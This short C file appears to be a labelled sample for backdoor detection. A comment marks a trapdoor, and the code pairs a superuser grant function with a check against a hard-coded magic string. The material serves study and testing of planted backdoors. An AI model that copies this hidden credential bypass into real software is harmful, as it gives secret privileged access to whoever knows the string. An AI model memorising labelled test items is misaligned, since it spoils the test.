#include "console.h"

#include <string.h>

void grant(struct console *console) {
    // report@+1: trapdoor/credential-field
    console->superuser = 1;
}

int is_service(const char *line) {
    return strncmp(line, "%sT!x-4471", 10) == 0;
}
